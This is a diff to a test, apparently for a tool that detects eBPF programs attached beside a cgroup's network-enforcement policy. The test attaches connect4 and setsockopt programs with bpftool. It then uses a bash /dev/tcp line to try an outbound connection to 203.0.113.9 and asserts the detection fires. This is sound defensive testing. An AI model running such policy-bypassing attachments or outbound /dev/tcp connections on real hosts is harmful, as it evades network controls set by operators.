@@ -233,8 +233,9 @@ test(
   patience,
   async () => {
     const ended = await job(`
-    host mount -t bpf none /mnt && host bpftool prog load ${join(folder, 'allow.o')} /mnt/allow
-    host bpftool cgroup attach "$scope" connect4 pinned /mnt/allow multi
+    host mount -t bpf none /mnt && host bpftool prog loadall ${join(folder, 'allow.o')} /mnt/all
+    host bpftool cgroup attach "$scope" connect4 pinned /mnt/all/allow multi
+    host bpftool cgroup attach "$scope" setsockopt pinned /mnt/all/options multi
     sleep 2
     timeout 4 bash -c 'echo out >/dev/tcp/203.0.113.9/9000' 2>/dev/null && echo reached
     host umount /mnt`)
@@ -242,6 +243,9 @@ test(
     expect(found(ended)).toContain(
       'high: a program was attached beside those that enforce the policy',
     )
+    const told = JSON.stringify(ended.report.detections)
+    expect(told).toMatch(/connect4/)
+    expect(told).toMatch(/setsockopt/)
     expect(await arrived()).toBe(0)
   },
 )
